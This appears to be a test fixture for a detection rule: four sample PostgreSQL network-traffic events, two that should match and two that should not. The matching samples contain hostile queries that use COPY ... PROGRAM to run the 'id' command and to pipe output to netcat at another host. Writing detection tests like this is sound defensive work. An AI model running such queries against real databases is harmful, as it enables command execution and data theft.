== match: a table filled from a command
{"@timestamp":"2026-05-11T10:00:00.000Z","host":{"id":"9a8b7c","name":"db-1"},"event":{"kind":"event","category":["network"],"type":["connection","protocol"]},"data_stream":{"dataset":"network_traffic.pgsql"},"network_traffic":{"pgsql":{"query":"COPY cmd_out FROM PROGRAM 'id'"}},"source":{"ip":"10.2.3.4"},"destination":{"ip":"10.2.3.9","port":5432}}
== match: a table sent to a command, in small letters
{"@timestamp":"2026-05-11T10:00:00.000Z","host":{"id":"9a8b7c","name":"db-1"},"event":{"kind":"event","category":["network"],"type":["connection","protocol"]},"data_stream":{"dataset":"network_traffic.pgsql"},"network_traffic":{"pgsql":{"query":"copy (select 1) to program 'nc 10.0.0.8 9'"}},"source":{"ip":"10.2.3.4"},"destination":{"ip":"10.2.3.9","port":5432}}
== miss: copied from the client, no program
{"@timestamp":"2026-05-11T10:00:00.000Z","host":{"id":"9a8b7c","name":"db-1"},"event":{"kind":"event","category":["network"],"type":["connection","protocol"]},"data_stream":{"dataset":"network_traffic.pgsql"},"network_traffic":{"pgsql":{"query":"COPY cmd_out FROM STDIN"}},"source":{"ip":"10.2.3.4"},"destination":{"ip":"10.2.3.9","port":5432}}
== miss: the words in another order
{"@timestamp":"2026-05-11T10:00:00.000Z","host":{"id":"9a8b7c","name":"db-1"},"event":{"kind":"event","category":["network"],"type":["connection","protocol"]},"data_stream":{"dataset":"network_traffic.pgsql"},"network_traffic":{"pgsql":{"query":"select program from copy_jobs"}},"source":{"ip":"10.2.3.4"},"destination":{"ip":"10.2.3.9","port":5432}}
